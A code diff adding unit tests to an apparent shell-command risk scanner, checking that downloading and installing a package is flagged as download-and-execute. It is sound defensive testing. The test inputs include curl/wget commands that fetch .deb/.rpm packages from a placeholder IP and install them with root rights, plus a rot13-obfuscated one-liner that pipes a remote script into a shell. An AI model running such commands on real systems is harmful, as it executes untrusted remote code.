@@ -107,6 +107,16 @@ TEST(CisoDataflow, ClusteredOutputOptionsNameTheDownloadedFile) {
   EXPECT_LT(run("wget -qO- https://example.com/status.json | jq .", true)["risk_score"].get<int>(), 30);
 }
 
+TEST(CisoDataflow, InstallingADownloadedPackageRunsIt) {
+  EXPECT_TRUE(has_rule(run("curl -s https://198.51.100.9/tv.deb -o /tmp/tv.deb && sudo dpkg -i /tmp/tv.deb", true),
+                       "download_exec.downloaded_file_executed"));
+  EXPECT_TRUE(has_rule(run("wget -q http://198.51.100.9/p.rpm && rpm -Uvh p.rpm", true),
+                       "download_exec.downloaded_file_executed"));
+  // Listing its contents runs nothing.
+  EXPECT_FALSE(has_rule(run("curl -sLo /tmp/x.deb https://example.com/x.deb && dpkg -c /tmp/x.deb", true),
+                        "download_exec.downloaded_file_executed"));
+}
+
 TEST(CisoDataflow, PythonRot13StringsAreReadDecoded) {
   const auto a = run("python3 -c \"import codecs,os;os.system(codecs.decode('phey -f uggc://198.51.100.9/k | fu','rot13'))\"", true);
   EXPECT_TRUE(has_rule(a, "download_exec.pipe_to_interpreter")) << rule_ids(a);
